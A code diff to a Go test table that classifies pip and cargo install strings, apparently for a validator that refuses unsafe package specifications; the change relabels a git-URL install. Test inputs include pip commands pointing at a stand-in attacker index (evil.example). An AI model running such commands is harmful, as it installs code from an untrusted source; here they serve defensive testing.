@@ -121,7 +121,7 @@ func TestPyPIAndCargoRefused(t *testing.T) {
 		"pip install -r requirements.txt":                        RefusedQualifier,
 		"pip install -i https://evil.example/ requests":          RefusedQualifier,
 		"pip install --index-url=https://evil.example/ requests": RefusedQualifier,
-		"pip install git+https://github.com/o/r":                 Malformed,
+		"pip install git+https://github.com/o/r":                 NoPackage,
 		"pip install requests==1.0 --hash=sha256:0":              Malformed,
 		"pkg:cargo/a/b":                              BadName,
 		"pkg:cargo/1a":                               BadName,
